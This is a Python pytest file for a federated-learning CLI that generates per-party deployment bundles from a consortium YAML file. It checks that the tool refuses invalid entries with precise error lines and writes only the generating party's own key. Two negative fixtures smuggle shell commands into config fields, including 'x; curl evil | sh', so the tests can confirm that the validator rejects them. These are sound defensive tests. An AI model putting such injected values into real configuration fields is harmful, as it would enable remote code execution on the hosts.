"""cluster.yaml: a bad consortium file is refused with one line per problem naming the
party and the field, and nothing is written; a good one becomes one party's bundle."""

from __future__ import annotations

import base64
import copy
import json

import pytest
import yaml
from click.testing import CliRunner

from federation.auth import KeyStore, PartyKeys, RouteTable

KEYS = {pid: PartyKeys.generate(pid) for pid in ("9999", "10000", "10001")}
BROKER = {"host": "127.0.0.1", "port": 5672, "vhost": "/", "user": "guest", "password": "guest"}


def consortium() -> dict:
    def party(pid: str, org: str, **engines) -> dict:
        return {"id": int(pid), "organisation": org, "public_key": KEYS[pid].public_key_b64,
                "address": {"host": "127.0.0.1", "port": 9380 + len(pid)},
                "engines": {"federation": {"engine": "rabbitmq", "broker": dict(BROKER), "allow_insecure": True},
                            **engines}}
    return {"name": "demo", "image": {"tag": "0.1.0"}, "parties": [
        party("9999", "Bank", computing={"engine": "spark", "workers": 3}),
        party("10000", "Retailer", storage={"engine": "hive", "host": "hive.internal"}),
        party("10001", "Office")]}


@pytest.fixture
def generate(tmp_path):
    import flow.cli.cluster  # noqa: F401 - registers the group
    from flow.cli.main import cli

    def run(data: dict, party: str = "9999", *extra: str) -> tuple[int, dict, str]:
        path = tmp_path / "cluster.yaml"
        path.write_text(yaml.safe_dump(data))
        res = CliRunner(env={"FLOW_HOME": str(tmp_path / "home"), "FEDWEAVE_SERVICE_CONF": None}).invoke(
            cli, ["cluster", "generate", "-f", str(path), "--party", party, "-o", str(tmp_path / "out"), *extra],
            catch_exceptions=False)
        return res.exit_code, json.loads(res.stdout) if res.stdout.strip() else {}, res.stderr

    return run


def _broken(change) -> dict:
    data = copy.deepcopy(consortium())
    change(data)
    return data


def _dup(d):
    d["parties"][2]["id"] = 10000


def _engine(d):
    d["parties"][1]["engines"]["computing"] = {"engine": "flink"}


def _broker(d):
    del d["parties"][2]["engines"]["federation"]["broker"]


def _short_key(d):
    d["parties"][1]["public_key"] = base64.b64encode(b"k" * 31).decode()


def _storage_setting(d):
    d["parties"][0]["engines"]["storage"] = {"engine": "hdfs"}


def _two_transports(d):
    d["parties"][2]["engines"]["federation"] = {"engine": "pulsar", "broker": {"url": "pulsar://127.0.0.1:6650"}}


def _bundled_pulsar(d):
    d["parties"][2]["engines"]["federation"] = {"engine": "pulsar", "broker": "bundled"}


def _memory_injection(d):
    d["parties"][0]["engines"]["computing"]["worker_memory"] = "1g; touch /tmp/x #"


def _shell_in_broker_user(d):
    d["parties"][2]["engines"]["federation"]["broker"]["user"] = "x; curl evil | sh"


def _not_a_dns_label(d):
    d["parties"][2]["id"] = "x.y-"


def _same_once_normalised(d):
    d["parties"][1]["id"], d["parties"][2]["id"] = "A_b", "a-b"


def _namespace_too_long(d):
    d["parties"][2]["id"] = "p" * 60


@pytest.mark.parametrize("change, line", [
    (_memory_injection, "party 9999: engines.computing.worker_memory: '1g; touch /tmp/x #' is not a Spark memory"),
    (_shell_in_broker_user, "party 10001: engines.federation.broker.user: 'x; curl evil | sh' is not a broker "
                            "account name"),
    (_not_a_dns_label, "party x.y-: id: 'x.y-' names the party's containers, volumes and namespace as 'x.y-', "
                       "which is not a DNS-1123 label"),
    (_same_once_normalised, "party a-b: id: duplicate party id (parties[1] and parties[2]): A_b and a-b both "
                            "name their services 'a-b'"),
    (_namespace_too_long, f"party {'p' * 60}: id: 'demo-{'p' * 60}' (the party's namespace) is over 63 characters"),
    (_dup, "party 10000: id: duplicate party id"),
    (_engine, "party 10000: engines.computing.engine: unknown engine 'flink'"),
    (_broker, "party 10001: engines.federation.broker: Field required"),
    (_short_key, "party 10000: public_key: an Ed25519 public key is 32 bytes, this one is 31"),
    (_storage_setting, "party 9999: engines.storage.url: Field required"),
    (_two_transports, "party 10001: engines.federation.engine: pulsar, but party 9999 uses rabbitmq"),
    (_bundled_pulsar, "party 10001: engines.federation.broker: not supported: broker: bundled for pulsar"),
])
def test_a_bad_consortium_file_is_one_line_naming_party_and_field_and_nothing_is_written(
        generate, tmp_path, change, line):
    code, out, err = generate(_broken(change))
    assert code == 2
    lines = err.strip().splitlines()
    assert len(lines) == 1 and line in lines[0] and lines[0].startswith(str(tmp_path / "cluster.yaml")), err
    assert not (tmp_path / "out").exists()
    assert not list(tmp_path.glob(".out.*"))


def test_a_peer_without_a_public_key_is_named(generate, tmp_path):
    code, _, err = generate(_broken(lambda d: d["parties"][2].pop("public_key")))
    assert code == 2 and "party 10001: public_key: required to generate party 9999's bundle" in err
    assert not (tmp_path / "out").exists()


def test_a_listed_key_whose_private_half_is_not_here_is_refused(generate, tmp_path):
    code, _, err = generate(consortium())  # the home holds no key of 9999
    assert code == 2 and "party 9999: public_key: the bundle needs this party's private key" in err
    assert not (tmp_path / "out").exists()


def test_the_bundle_holds_only_this_partys_secrets_and_loads_with_the_projects_loaders(generate, tmp_path):
    from flow.core.settings import load_service_conf

    data = consortium()
    data["parties"][0]["public_key"] = None  # 9999 has no key yet: the bundle makes one
    code, out, err = generate(data)
    assert code == 0, err
    bundle = tmp_path / "out"
    conf = load_service_conf(bundle / "home" / "service_conf.yaml")
    assert conf.mode == "cluster" and conf.server.party_id == "9999"
    assert conf.default_engines.computing == "spark" and conf.default_engines.federation == "rabbitmq"
    table = RouteTable.load(bundle / "home" / "route_table.yaml")
    new = KeyStore(bundle / "home").load("9999")
    assert out["data"]["public_key"] == new.public_key_b64 == table.parties["9999"].public_key
    assert table.parties["10000"].public_key == KEYS["10000"].public_key_b64
    assert [p.name for p in (bundle / "home" / "keys").iterdir()] == ["9999.key"]
    assert (bundle / "home" / "keys" / "9999.key").stat().st_mode & 0o077 == 0
    assert "guest" not in (bundle / "home" / "route_table.yaml").read_text()  # no credentials in the table
    k8s = {p.name for p in (bundle / "k8s").iterdir()}
    assert {"server.yaml", "spark-workers.yaml", "kustomization.yaml"} <= k8s
    workers = yaml.safe_load((bundle / "k8s" / "spark-workers.yaml").read_text())
    assert workers["spec"]["replicas"] == 3
    assert "compose.yaml" in out["data"]["files"] and (bundle / "README.md").is_file()

    before = sorted(p.name for p in bundle.rglob("*"))
    code, _, err = generate(consortium(), "10000")
    assert code == 2 and "not empty; give --force" in err
    assert sorted(p.name for p in bundle.rglob("*")) == before
    data["parties"][0]["public_key"] = new.public_key_b64  # handed to the consortium, as its README says
    data["parties"][1]["public_key"] = None
    code, out, err = generate(data, "10000", "--force")  # another party's bundle in the same folder
    assert code == 0, err
    assert [p.name for p in (bundle / "home" / "keys").iterdir()] == ["10000.key"]
    assert load_service_conf(bundle / "home" / "service_conf.yaml").storage["hive"]["host"] == "hive.internal"


def test_the_example_consortium_file_validates():
    from pathlib import Path

    from flow.ops.cluster_conf import load_cluster

    spec = load_cluster(Path(__file__).resolve().parents[2] / "deploy" / "cluster.example.yaml")
    assert [p.id for p in spec.parties] == ["9999", "10000", "10001"]
